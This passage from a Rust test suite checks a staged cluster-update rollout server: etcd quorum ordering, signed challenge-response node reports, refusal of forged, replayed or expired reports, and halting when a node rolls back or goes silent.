    let sig = crate::rollout::report_signature(key, &crate::rollout::report_message(node, "x86_64", version, state, nonce));
    format!("/rollout/report?node={node}&arch=x86_64&version={version}&state={state}&nonce={nonce}&sig={sig}")
}

fn challenge(addr: SocketAddr, node: &str) -> String {
    let r = request(addr, "GET", &format!("/rollout/challenge?node={node}"), "");
    assert_eq!(r.status, 200, "{node}: {}", r.text());
    assert_eq!(r.header("content-type").as_deref(), Some("text/plain; charset=utf-8"));
    let nonce = r.text().strip_suffix('\n').expect("one line").to_string();
    assert!(nonce.len() == 64 && nonce.bytes().all(|b| b.is_ascii_hexdigit()), "{nonce}");
    nonce
}

/// A node's genuine report (challenge, then signed report); returns the answer's `action`.
fn report(addr: SocketAddr, master: &[u8; 32], node: &str, version: &str, state: &str) -> String {
    let nonce = challenge(addr, node);
    let r = request(addr, "GET", &report_query(&crate::rollout::node_key(master, node), node, version, state, &nonce), "");
    assert_eq!(r.status, 200, "{node}: {}", r.text());
    let action = r.text().lines().find_map(|l| l.strip_prefix("action ").map(str::to_string)).expect("an action line");
    assert!(r.text().contains("\nversion 2.0.0\npoll 30\n"), "{}", r.text());
    action
}

fn status(addr: SocketAddr) -> serde_json::Value {
    let r = request(addr, "GET", "/rollout/status", "");
    assert_eq!((r.status, r.header("content-type").as_deref()), (200, Some("application/json")));
    serde_json::from_slice(&r.body).unwrap()
}

fn phases(addr: SocketAddr) -> Vec<String> {
    status(addr)["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| format!("{}={}", n["name"].as_str().unwrap(), n["phase"].as_str().unwrap()))
        .collect()
}

#[test]
fn rollout_goes_etcd_one_at_a_time_with_quorum_then_servers_then_agents_by_max_unavailable() {
    let (out, master) = rollout_fixture();
    let clock = TestClock::new();
    let srv = start_rollout(out.path(), &clock);
    let a = srv.addr;
    // Everyone on 1.0.0. etcd-2 and etcd-3 wait: the other members have not reported (no quorum
    // known); the server and agents wait for the etcd wave.
    for n in ["etcd-2", "etcd-3", "srv-1", "a-1", "a-2"] {
        assert_eq!(report(a, &master, n, "1.0.0", "ready"), "wait", "{n}");
    }
    let nonce = challenge(a, "etcd-1");
    let r = request(a, "GET", &report_query(&crate::rollout::node_key(&master, "etcd-1"), "etcd-1", "1.0.0", "ready", &nonce), "");
    assert_eq!(r.text(), "action update\nversion 2.0.0\npoll 30\nurl /updates/x86_64/\n");
    // One etcd member at a time.
    assert_eq!(report(a, &master, "etcd-2", "1.0.0", "ready"), "wait");

    // 100 s later (over 3 polls): etcd-1 is back on 2.0.0. etcd-2 may not go: etcd-3's last
    // report is stale, so the group might not have quorum without etcd-2.
    clock.advance(100);
    assert_eq!(report(a, &master, "etcd-1", "2.0.0", "ready"), "wait");
    assert_eq!(report(a, &master, "etcd-2", "1.0.0", "ready"), "wait", "quorum guard: etcd-3 is stale");
    assert_eq!(report(a, &master, "etcd-3", "1.0.0", "ready"), "update", "etcd-1 and etcd-2 reported just now");
    assert_eq!(report(a, &master, "etcd-2", "1.0.0", "ready"), "wait");
    assert_eq!(report(a, &master, "srv-1", "1.0.0", "ready"), "wait");
    assert_eq!(report(a, &master, "etcd-3", "2.0.0", "ready"), "wait");
    assert_eq!(report(a, &master, "etcd-2", "1.0.0", "ready"), "update");
    assert_eq!(report(a, &master, "srv-1", "1.0.0", "ready"), "wait", "servers start when every etcd member is done");
    assert_eq!(report(a, &master, "etcd-2", "2.0.0", "ready"), "wait");
    assert_eq!(report(a, &master, "a-1", "1.0.0", "ready"), "wait", "agents wait for the servers");
    assert_eq!(report(a, &master, "srv-1", "1.0.0", "ready"), "update");
    assert_eq!(report(a, &master, "a-1", "1.0.0", "ready"), "wait");
    assert_eq!(report(a, &master, "srv-1", "2.0.0", "ready"), "wait");
    // Agents: two at once (--max-unavailable 2).
    assert_eq!(report(a, &master, "a-1", "1.0.0", "ready"), "update");
    assert_eq!(report(a, &master, "a-2", "1.0.0", "ready"), "update");
    assert_eq!(status(a)["state"], "running");
    clock.advance(7);
    assert_eq!(report(a, &master, "a-2", "2.0.0", "ready"), "wait");
    assert_eq!(report(a, &master, "a-1", "2.0.0", "ready"), "wait");

    clock.advance(5);
    let s = status(a);
    assert_eq!(s["state"], "done");
    assert_eq!(s["reason"], serde_json::Value::Null);
    assert_eq!(s["targets"], serde_json::json!({"x86_64": "2.0.0"}));
    assert_eq!(
        s["nodes"][0],
        serde_json::json!({"name": "etcd-1", "roles": ["etcd"], "arch": "x86_64", "version": "2.0.0", "phase": "done", "report": "ready", "seconds_since_report": 12})
    );
    assert_eq!(s["nodes"][5]["seconds_since_report"], 5);
    assert_eq!(phases(a), INVENTORY.iter().map(|(n, _)| format!("{n}=done")).collect::<Vec<_>>());
    // No secrets: neither the master key nor any node key.
    let text = s.to_string();
    assert!(!text.contains(&hex::encode(master)));
    for (n, _) in INVENTORY {
        assert!(!text.contains(&hex::encode(crate::rollout::node_key(&master, n))), "{n}");
    }
}

#[test]
fn forged_replayed_and_unknown_reports_are_refused_and_change_nothing() {
    let (out, master) = rollout_fixture();
    let clock = TestClock::new();
    let srv = start_rollout(out.path(), &clock);
    let a = srv.addr;
    for n in ["etcd-2", "etcd-3"] {
        report(a, &master, n, "1.0.0", "ready");
    }
    let before = status(a);
    let key1 = crate::rollout::node_key(&master, "etcd-1");
    let nonce = challenge(a, "etcd-1");
    let refused = |target: &str, why: &str| {
        let r = request(a, "GET", target, "");
        assert_eq!(r.status, 403, "{target}: {}", r.text());
        assert!(r.text().contains(why), "{target}: {}", r.text());
    };
    // Another node's key (etcd-2 speaking for etcd-1), the master key itself, a changed field,
    // no signature.
    refused(&report_query(&crate::rollout::node_key(&master, "etcd-2"), "etcd-1", "1.0.0", "ready", &nonce), "bad signature");
    refused(&report_query(&master, "etcd-1", "1.0.0", "ready", &nonce), "bad signature");
    let tampered = report_query(&key1, "etcd-1", "1.0.0", "failed", &nonce).replace("state=failed", "state=ready");
    refused(&tampered, "bad signature");
    refused(&format!("/rollout/report?node=etcd-1&arch=x86_64&version=1.0.0&state=ready&nonce={nonce}"), "missing signature");
    // An unknown node and a nonce never issued.
    assert_eq!(request(a, "GET", "/rollout/challenge?node=intruder", "").status, 404);
    refused(&report_query(&key1, "intruder", "1.0.0", "ready", &nonce), "not in the inventory");
    refused(&report_query(&key1, "etcd-1", "1.0.0", "ready", &"ab".repeat(32)), "not the node's latest challenge");
    assert_eq!(status(a), before, "refused reports change nothing");
    // The forgeries did not use up the node's nonce: its genuine report still goes through, once.
    let genuine = report_query(&key1, "etcd-1", "1.0.0", "ready", &nonce);
    let r = request(a, "GET", &genuine, "");
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(r.text().starts_with("action update\n"), "{}", r.text());
    let after = status(a);
    refused(&genuine, "no challenge is open");
    // A newer challenge replaces the older nonce; an expired one is refused.
    let old = challenge(a, "etcd-2");
    let new = challenge(a, "etcd-2");
    let key2 = crate::rollout::node_key(&master, "etcd-2");
    refused(&report_query(&key2, "etcd-2", "1.0.0", "ready", &old), "not the node's latest challenge");
    clock.advance(600);
    refused(&report_query(&key2, "etcd-2", "1.0.0", "ready", &new), "expired");
    let mut later = status(a);
    // Only the clock moved.
    for n in later["nodes"].as_array_mut().unwrap() {
        if let Some(s) = n["seconds_since_report"].as_u64() {
            n["seconds_since_report"] = (s - 600).into();
        }
    }
    assert_eq!(later, after);
    // Malformed reports are 400, not 403.
    assert_eq!(request(a, "GET", "/rollout/report?node=etcd-1", "").status, 400);
    assert_eq!(request(a, "GET", &report_query(&key1, "etcd-1", "1.0.0", "happy", &nonce), "").status, 400);
}

/// A rollout whose three etcd members reported ready on 1.0.0, etcd-1 last: it was told to update.
fn etcd_1_told_to_update() -> (tempfile::TempDir, [u8; 32], TestClock, Running) {
    let (out, master) = rollout_fixture();
    let clock = TestClock::new();
    let srv = start_rollout(out.path(), &clock);
    for n in ["etcd-2", "etcd-3", "etcd-1"] {
        report(srv.addr, &master, n, "1.0.0", "ready");
    }
    (out, master, clock, srv)
}

#[test]
fn a_rolled_back_node_halts_the_rollout_for_everyone() {
    let (_out, master, clock, srv) = etcd_1_told_to_update();
    let a = srv.addr;
    assert_eq!(phases(a)[0], "etcd-1=updating");
    clock.advance(240);
    assert_eq!(report(a, &master, "etcd-1", "1.0.0", "rolled-back"), "halt");
    for (n, _) in &INVENTORY[1..] {
        assert_eq!(report(a, &master, n, "1.0.0", "ready"), "halt", "{n}");
    }
    let s = status(a);
    assert_eq!(s["state"], "halted");
    let reason = s["reason"].as_str().unwrap();
    assert!(reason.contains("etcd-1 reported rolled-back on 1.0.0 after being told to update to 2.0.0"), "{reason}");
    assert_eq!(s["nodes"][0]["phase"], "failed");
    assert_eq!(s["nodes"][0]["report"], "rolled-back");
    assert_eq!(s["nodes"][1]["phase"], "pending");
}

#[test]
fn a_node_that_goes_silent_after_being_told_halts_the_rollout() {
    let (_out, master, clock, srv) = etcd_1_told_to_update();
    let a = srv.addr;
    clock.advance(15 * 60 - 1);
    assert_eq!(status(a)["state"], "running");
    clock.advance(1);
    let s = status(a);
    assert_eq!(s["state"], "halted");
    assert!(s["reason"].as_str().unwrap().contains("etcd-1 sent no report within 15m"), "{}", s["reason"]);
    assert_eq!(report(a, &master, "etcd-2", "1.0.0", "ready"), "halt");
}

#[test]
fn rollout_paths_are_not_found_without_rollout() {
    let (out, _o) = fixture();
    let srv = start(out.path());
    for p in ["/rollout/status", "/rollout/challenge?node=node-a", "/rollout/report?node=node-a"] {
        let r = request(srv.addr, "GET", p, "");
        assert_eq!(r.status, 404, "{p}");
    }
}

#[test]
fn rollout_refuses_to_start_without_a_bundle_key_or_nodes() {
    let settings = rollout::Settings::default();
    let empty = tempfile::tempdir().unwrap();
    let err = format!("{:#}", Rollout::load(empty.path(), settings, Instant::now()).unwrap_err());
    assert!(err.contains("holds no update bundle") && err.contains("--format update"), "{err}");
    let (out, _) = rollout_fixture();
    std::fs::remove_file(crate::rollout::master_key_path(out.path())).unwrap();
    let err = format!("{:#}", Rollout::load(out.path(), settings, Instant::now()).unwrap_err());
    assert!(err.contains("secrets/rollout.key is missing") && err.contains("update.server"), "{err}");
    let txt = out.path().join("x86_64/update/update.txt");
    std::fs::write(&txt, "kiln-update 1\nversion 2.0.0\n").unwrap();
    let err = format!("{:#}", Rollout::load(out.path(), settings, Instant::now()).unwrap_err());
    assert!(err.contains("lists no nodes") && err.contains("cluster.nodes"), "{err}");
}
